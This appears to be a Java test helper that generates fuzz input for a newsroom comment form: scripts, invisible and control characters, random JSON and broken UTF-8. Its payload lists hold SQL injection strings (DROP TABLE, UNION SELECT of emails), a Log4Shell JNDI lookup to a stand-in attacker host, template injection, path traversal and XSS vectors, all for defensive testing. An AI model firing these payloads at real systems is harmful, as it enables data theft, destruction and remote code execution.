package dev.newsroom.comments.testing;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.function.Supplier;

/**
 * Generators of what the open internet sends a comment form: text in every script, injection
 * attempts, invisible and control characters, digits of other scripts, random JSON, broken
 * encodings. Everything is drawn from a {@link Random}, so a seed reproduces a case exactly.
 */
public final class Hostile {

    public static final List<String> SQL_INJECTION = List.of("' OR '1'='1", "'; DROP TABLE comment; --",
            "\" OR 1=1 --", "1; SELECT pg_sleep(10)", "') UNION SELECT email FROM comment --",
            "%' AND 1=0 UNION ALL SELECT NULL --", "\\'; SHUTDOWN; --", "admin'--", "1' ORDER BY 1--+",
            "${jndi:ldap://attacker.example/a}", "{{7*7}}", "#{7*7}", "%s%s%s%n", "../../../../etc/passwd");
    public static final List<String> HTML_INJECTION = List.of("<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
            "&lt;b&gt;&amp;", "<!--", "]]>", "<iframe src=//attacker.example>", "<style>*{display:none}</style>",
            "'\"`", "<b>bold</b>", "[url=http://spam.example]x[/url]");
    /** Text in many scripts, combining marks, emoji with joiners and skin tones, astral letters. */
    public static final List<String> SCRIPTS = List.of("Ana", "Zoë", "Øyvind", "Αλέξανδρος", "Дмитрий", "محمد",
            "דוד", "李小龙", "山田太郎", "김민준", "राहुल", "Nguyễn Văn", "👩‍💻", "🧑🏽‍🚀", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "e\u0301",
            "ﷺ", "Ꙭ", "🏳️‍🌈", "ß", "İ", "ǅ", "𐍈", "\uD83D\uDE00");
    /** Direction overrides, isolates, zero-width and soft characters: invisible, legal in a body, not in a name. */
    public static final List<String> INVISIBLE = List.of("\u202E", "\u202D", "\u202A", "\u2066", "\u2067", "\u2068",
            "\u2069", "\u200B", "\u2060", "\uFEFF", "\u00AD", "\u061C", "\u200E", "\u200F");
    /** Characters no field may carry (a body keeps line feeds and tabs only). */
    public static final List<String> CONTROL = List.of("\u0000", "\u0001", "\u0007", "\u0008", "\u000B", "\u000C",
            "\u001B", "\u007F", "\u0085", "\u009B");
    /** The digits 0–9 of other scripts: none of them may pass for an ASCII digit. */
    public static final List<String> OTHER_DIGITS = List.of("٠١٢٣٤٥٦٧٨٩", "۰۱۲۳۴۵۶۷۸۹", "०१२३४५६७८९",
            "০১২৩৪৫৬৭৮৯", "๐๑๒๓๔๕๖๗๘๙", "０１２３４５６７８９", "၀၁၂၃၄၅၆၇၈၉", "᠐᠑᠒᠓᠔᠕᠖᠗᠘᠙",
            "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗", "𝟘𝟙𝟚𝟛𝟜𝟝𝟞𝟟𝟠𝟡", "⁰¹²³⁴⁵⁶⁷⁸⁹", "₀₁₂₃₄₅₆₇₈₉");
    /** Byte sequences that are not UTF-8: lone continuation, overlong, surrogate, truncated, out of range. */
    public static final List<byte[]> INVALID_UTF8 = List.of(new byte[] { (byte) 0x80 }, new byte[] { (byte) 0xC3, 0x28 },
            new byte[] { (byte) 0xC0, (byte) 0xAF }, new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 },
            new byte[] { (byte) 0xE2, (byte) 0x82 }, new byte[] { (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 },
            new byte[] { (byte) 0xFF }, new byte[] { (byte) 0xFE, (byte) 0xFF }, new byte[] { (byte) 0xF0, (byte) 0x9F });

    private static final String ASCII_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

    private final Random random;

    public Hostile(Random random) {
        this.random = random;
    }

    public Random random() {
        return random;
    }

    public boolean chance(double probability) {
        return random.nextDouble() < probability;
    }

    public int between(int min, int max) {
        return min + random.nextInt(max - min + 1);
    }

    public <T> T oneOf(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    @SafeVarargs
    public final <T> T oneOf(Supplier<T>... choices) {
        return choices[random.nextInt(choices.length)].get();
    }

    public String letters(int length) {
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append(ASCII_LETTERS.charAt(random.nextInt(ASCII_LETTERS.length())));
        }
        return text.toString();
    }

    /**
     * A name the contract accepts exactly as sent: 1 to {@code maxLength} code points of any script,
     * injection text included, on one line, nothing invisible, no blank at either end.
     */
    public String validName(int maxLength) {
        if (chance(0.05)) {
            return "\uD83D\uDE42".repeat(maxLength); // the widest legal name: every character a surrogate pair
        }
        StringBuilder name = new StringBuilder();
        int pieces = between(1, 4);
        for (int i = 0; i < pieces; i++) {
            name.append(i == 0 ? "" : " ").append(oneOf(() -> oneOf(SCRIPTS), () -> oneOf(SQL_INJECTION),
                    () -> oneOf(HTML_INJECTION), () -> letters(between(1, 12))));
        }
        return trimToLength(name.toString(), maxLength);
    }

    /**
     * A body the contract accepts exactly as sent: lines of any script, injections, links, tabs and
     * invisible formatting characters inside, a marker that keeps it unique, no blank at either end.
     */
    public String validBody(int maxLength, String marker) {
        if (chance(0.03)) {
            return marker + "\uD83D\uDCAC".repeat(maxLength - marker.length()); // the longest in UTF-16 units
        }
        StringBuilder body = new StringBuilder(marker);
        int pieces = between(1, 30);
        for (int i = 0; i < pieces; i++) {
            body.append(oneOf(() -> " ", () -> "\n", () -> "\n\n", () -> "\t", () -> " " + oneOf(INVISIBLE) + " "))
                    .append(oneOf(() -> oneOf(SCRIPTS), () -> oneOf(SQL_INJECTION), () -> oneOf(HTML_INJECTION),
                            () -> "https://example.org/" + letters(between(0, 20)), () -> letters(between(1, 40)),
                            () -> oneOf(OTHER_DIGITS)));
        }
        return trimToLength(body.toString(), maxLength);
    }

    /** A deliverable-looking address, up to the 254 characters the contract allows. */
    public String validEmail() {
        String local = letters(between(1, 20)).toLowerCase() + (chance(0.3) ? "+" + letters(between(1, 8)) : "")
                + (chance(0.3) ? "." + letters(between(1, 10)) : "");
        String domain = letters(between(1, 20)).toLowerCase() + "." + oneOf(List.of("com", "org", "news", "example"));
        if (chance(0.05)) { // the longest: 64-character local part, labels up to 254 in all
            local = "l".repeat(64);
            StringBuilder labels = new StringBuilder();
            while (local.length() + 1 + labels.length() + 63 + 5 < 254) {
                labels.append("d".repeat(62)).append('.');
            }
            domain = labels + "e".repeat(254 - local.length() - 1 - labels.length() - 4) + ".com";
        }
        return local + "@" + domain;
    }

    public String validWebsite() {
        String url = oneOf(List.of("https://", "http://")) + letters(between(1, 20)).toLowerCase() + ".example/";
        if (chance(0.1)) {
            return url + "p".repeat(200 - url.length());
        }
        return url + letters(between(0, 30)) + (chance(0.3) ? "?q=" + letters(5) + "&amp;x=%20" : "");
    }

    /**
     * Text with something no field accepts inside it: a control character, a lone surrogate half.
     * (At either end, a control that is also blank, like a form feed, would rightly be trimmed.)
     */
    public String withForbiddenCharacter(String text) {
        String bad = chance(0.8) ? oneOf(CONTROL) : String.valueOf((char) between(0xD800, 0xDFFF));
        if (text.length() < 2) {
            return "a" + bad + "b";
        }
        int at = between(1, text.length() - 1);
        while (at > 1 && Character.isLowSurrogate(text.charAt(at))) {
            at--;
        }
        return text.substring(0, at) + bad + text.substring(at);
    }

    /** {@code number} written with the digits of another script (or several mixed). */
    public String inOtherDigits(int number) {
        String digits = Integer.toString(number);
        StringBuilder text = new StringBuilder();
        boolean mixed = chance(0.3);
        String script = oneOf(OTHER_DIGITS);
        for (int i = 0; i < digits.length(); i++) {
            String alphabet = mixed && i % 2 == 0 ? "0123456789" : script;
            int d = digits.charAt(i) - '0';
            text.appendCodePoint(alphabet.codePoints().skip(d).findFirst().orElseThrow());
        }
        if (text.toString().equals(digits)) { // a one-digit mix may have stayed ASCII
            return inOtherDigits(number + 10);
        }
        return text.toString();
    }

    /** A JSON value of random shape: wrong types, random keys, nesting, odd numbers. */
    public String randomJson(int depth) {
        int kind = random.nextInt(depth <= 0 ? 6 : 8);
        return switch (kind) {
            case 0 -> "null";
            case 1 -> Boolean.toString(random.nextBoolean());
            case 2 -> oneOf(List.of("0", "-1", "1e309", "-0.0", "12345678901234567890123", "1.5e-400", "3.14"));
            case 3 -> quote(oneOf(() -> letters(between(0, 20)), () -> oneOf(SQL_INJECTION), () -> oneOf(SCRIPTS),
                    () -> oneOf(CONTROL), () -> oneOf(INVISIBLE)), chance(0.5));
            case 4 -> quote("", false);
            case 5 -> Integer.toString(random.nextInt());
            case 6 -> {
                StringBuilder array = new StringBuilder("[");
                for (int i = between(0, 5); i > 0; i--) {
                    array.append(randomJson(depth - 1)).append(i > 1 ? "," : "");
                }
                yield array.append(']').toString();
            }
            default -> {
                StringBuilder object = new StringBuilder("{");
                for (int i = between(0, 6); i > 0; i--) {
                    String key = oneOf(() -> oneOf(List.of("name", "email", "body", "captchaToken", "captchaAnswer",
                            "parentId", "website", "homepage", "status", "id", "ids", "action", "__proto__")),
                            () -> letters(between(0, 8)));
                    object.append(quote(key, false)).append(':').append(randomJson(depth - 1)).append(i > 1 ? "," : "");
                }
                yield object.append('}').toString();
            }
        };
    }

    /** Deeply nested arrays or objects, {@code levels} deep. */
    public String nested(int levels) {
        boolean arrays = random.nextBoolean();
        String open = arrays ? "[" : "{\"a\":";
        String close = arrays ? "]" : "}";
        return open.repeat(levels) + "1" + close.repeat(levels);
    }

    /**
     * A JSON string literal. With {@code escapeAll}, every character outside printable ASCII is
     * written as {@code \\uXXXX} (which can carry lone surrogate halves, as JSON allows).
     */
    public static String quote(String text, boolean escapeAll) {
        StringBuilder literal = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' || c == '\\') {
                literal.append('\\').append(c);
            } else if (c < 0x20 || (escapeAll && c > 0x7E) || Character.isSurrogate(c) && !isPaired(text, i)) {
                literal.append(String.format("\\u%04x", (int) c));
            } else {
                literal.append(c);
            }
        }
        return literal.append('"').toString();
    }

    private static boolean isPaired(String text, int i) {
        char c = text.charAt(i);
        return Character.isHighSurrogate(c) ? i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1))
                : i > 0 && Character.isHighSurrogate(text.charAt(i - 1));
    }

    /** {@code json} as UTF-8 with an invalid byte sequence inside a string value. */
    public byte[] withInvalidUtf8(String json) {
        byte[] valid = json.getBytes(StandardCharsets.UTF_8);
        int quote = json.indexOf('"', random.nextInt(Math.max(1, json.length())));
        int at = quote < 0 ? valid.length / 2 : json.substring(0, quote + 1).getBytes(StandardCharsets.UTF_8).length;
        byte[] bad = oneOf(INVALID_UTF8);
        byte[] result = new byte[valid.length + bad.length];
        System.arraycopy(valid, 0, result, 0, at);
        System.arraycopy(bad, 0, result, at, bad.length);
        System.arraycopy(valid, at, result, at + bad.length, valid.length - at);
        return result;
    }

    /** The contract's trimming: any blank at either end (what {@code Text.isBlank} strips). */
    public static boolean isBlank(int codePoint) {
        return Character.isWhitespace(codePoint) || Character.isSpaceChar(codePoint)
                || codePoint == 0x200B || codePoint == 0x2060 || codePoint == 0xFEFF || codePoint == 0x2800;
    }

    private static String trimToLength(String text, int maxLength) {
        int[] codePoints = text.codePoints().limit(maxLength).toArray();
        int start = 0;
        int end = codePoints.length;
        while (start < end && isBlank(codePoints[start])) {
            start++;
        }
        while (end > start && isBlank(codePoints[end - 1])) {
            end--;
        }
        String trimmed = new String(codePoints, start, end - start);
        return trimmed.isEmpty() ? "x" : trimmed;
    }
}
